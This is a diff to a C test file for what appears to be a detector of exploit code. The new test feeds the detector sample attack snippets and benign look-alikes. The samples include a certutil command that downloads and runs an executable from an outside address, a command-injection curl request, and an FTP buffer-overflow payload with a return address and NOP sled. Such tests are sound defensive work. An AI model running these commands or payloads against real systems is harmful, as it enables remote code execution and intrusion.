@@ -1698,6 +1698,35 @@ test_payload_bounds(void)
     }
 }
 
+/* Commands and scripts whose payload is in the body, the download or the
+ * bytes sent (review 13, D/E), and their twins. */
+static void
+test_payload_commands(void)
+{
+    static const char *const found[] = {
+        "```\ncurl -s -X POST http://TARGET/fict/run --data 'command=whoami'\n```\n",
+        "```\ncertutil.exe -urlcache -split -f http://203.0.113.9/u.exe %TEMP%\\u.exe & %TEMP%\\u.exe\n"
+        "```\n",
+        "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
+        "c.send(b\"USER \" + b\"A\"*260 + struct.pack(\"<I\", 0x7c9d30d7) + b\"\\x90\"*8 + sc)\n```\n",
+    };
+    static const char *const clean[] = {
+        "```\ncurl -X POST http://TARGET/fict/list -d 'sort=id'\n```\n",
+        "```\ncertutil -urlcache -f http://203.0.113.9/tool.zip tool.zip\n```\n",
+        "```\ncertutil -hashfile setup.exe SHA256\n```\n",
+        "```python\nimport socket, struct\nc = socket.socket()\nc.connect((\"192.168.7.3\", 21))\n"
+        "c.send(struct.pack(\"<I\", len(msg)) + msg)\n```\n",
+        "```python\nfrom pwn import *\nio = process('./lab')\nio.sendline(b'A'*40 + p64(0x401136))\n"
+        "```\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
+        if (count_block(found[i], "exploit_code") == 0)
+            T_FAIL_AT("no exploit_code in: %s", found[i]);
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "exploit_code", NULL) != 0)
+            T_FAIL_AT("exploit_code in: %s", clean[i]);
+}
+
 static void
 test_phone_table(void)
 {
@@ -1767,6 +1796,7 @@ main(void)
     T_RUN(test_phone_table);
     T_RUN(test_payload_shapes);
     T_RUN(test_payload_bounds);
+    T_RUN(test_payload_commands);
     T_RUN(test_redaction_roundtrip);
     cu_engine_free(&E);
     return T_DONE();
